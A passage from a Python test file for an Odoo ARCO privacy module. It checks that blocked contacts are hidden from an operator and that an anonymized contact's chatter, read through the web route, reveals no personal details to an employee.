            "Miembro Visible", "visible@example.mx", parent_id=self.org.partner_id.id
        )
        request = self._create_arco(member, "cancellation")
        request.with_user(self.user_coordinator).action_block()
        values = self.org.with_user(self.operator_oax).web_read(
            {"name": {}, "child_ids": {"fields": {"name": {}, "email": {}}}}
        )[0]
        ids = [child["id"] for child in values["child_ids"]]
        self.assertIn(other.id, ids)
        self.assertNotIn(member.id, ids)


@tagged("post_install", "-at_install", "ms_privacy", "ms_arco")
class TestMsArcoThreadRoute(HttpCase, MsCase):
    """Finding 6, through the web client's own route: once anonymized, the
    contact's chatter shows an employee outside the commission nothing of the
    person (name, email, phone, address, in bodies or tracking values)."""

    def test_anonymized_contact_chatter(self):
        self.env.company.ms_retention_days = 0
        tracked = self.env(context={})
        cadre = self._create_cadre(
            "Elvira Quintana Robles",
            email="elvira.quintana@example.mx",
            phone="+52 222 333 4444",
            street="Privada Fresnos 8",
        )
        person = cadre.partner_id.with_env(tracked)
        person.message_post(body="Elvira Quintana Robles llamó", message_type="comment")
        cadre.with_env(tracked).committee = "Comité de Puebla"
        request = self._create_arco(person, "cancellation")
        request.with_user(self.user_coordinator).action_block()
        request.with_user(self.user_manager).action_anonymize()

        self.authenticate("ms_employee", "ms_employee")
        result = self.make_jsonrpc_request(
            "/mail/thread/messages",
            {"thread_model": "res.partner", "thread_id": person.id},
        )
        self.assertTrue(result["messages"], "the anonymization note remains")
        dump = json.dumps(result["data"], ensure_ascii=False)
        for text in (
            "Elvira",
            "Quintana",
            "elvira.quintana@example.mx",
            "333 4444",
            "Fresnos",
            "Comité de Puebla",
        ):
            self.assertNotIn(text, dump)
